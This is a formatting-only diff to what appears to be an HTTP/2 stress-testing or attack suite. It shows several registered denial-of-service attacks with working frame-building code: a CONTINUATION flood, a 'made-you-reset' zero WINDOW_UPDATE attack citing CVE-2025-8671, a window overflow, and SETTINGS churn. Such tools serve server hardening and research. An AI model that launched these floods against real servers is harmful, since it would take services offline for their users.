@@ -103,7 +103,11 @@ def _(session):
     session.pause()
 
 
-@attack("header-block-of-flushes", "header blocks of 8,000 empty stored blocks: CONTINUATION flood", ECHO)
+@attack(
+    "header-block-of-flushes",
+    "header blocks of 8,000 empty stored blocks: CONTINUATION flood",
+    ECHO,
+)
 def _(session):
     block = frames.block((b"a", b"b")) + b"\0\0\0\xff\xff" * 8000
     session.flood(frames.headers(session.stream, block))
@@ -192,8 +196,12 @@ def _(session):
     )
 
 
-@attack("made-you-reset-window-zero", "streams that we reset: WINDOW_UPDATE of 0; CVE-2025-8671", ECHO,
-        EXEC)  # fmt: skip
+@attack(
+    "made-you-reset-window-zero",
+    "streams that we reset: WINDOW_UPDATE of 0; CVE-2025-8671",
+    ECHO,
+    EXEC,
+)
 def _(session):
     block = frames.block((b"a", b"b"))
     session.flood_ids(
@@ -286,7 +294,11 @@ def _(session):
     session.flood(frames.window_update(1001, 1))
 
 
-@attack("window-update-overflow", "WINDOW_UPDATEs that lift the connection's window above 2^31", ECHO)
+@attack(
+    "window-update-overflow",
+    "WINDOW_UPDATEs that lift the connection's window above 2^31",
+    ECHO,
+)
 def _(session):
     session.flood(frames.window_update(0, 0x7FFFFFFF))
 
@@ -363,7 +375,11 @@ def _(session):
     session.flood(frames.settings(*((number, 1) for number in range(100, 164))))
 
 
-@attack("settings-window-churn", "SETTINGS that change the windows of 1,000 streams, back and forth", ECHO)
+@attack(
+    "settings-window-churn",
+    "SETTINGS that change the windows of 1,000 streams, back and forth",
+    ECHO,
+)
 def _(session):
     session.open_streams(1000)
     session.flood(frames.settings((7, 1)) + frames.settings((7, 65536)))
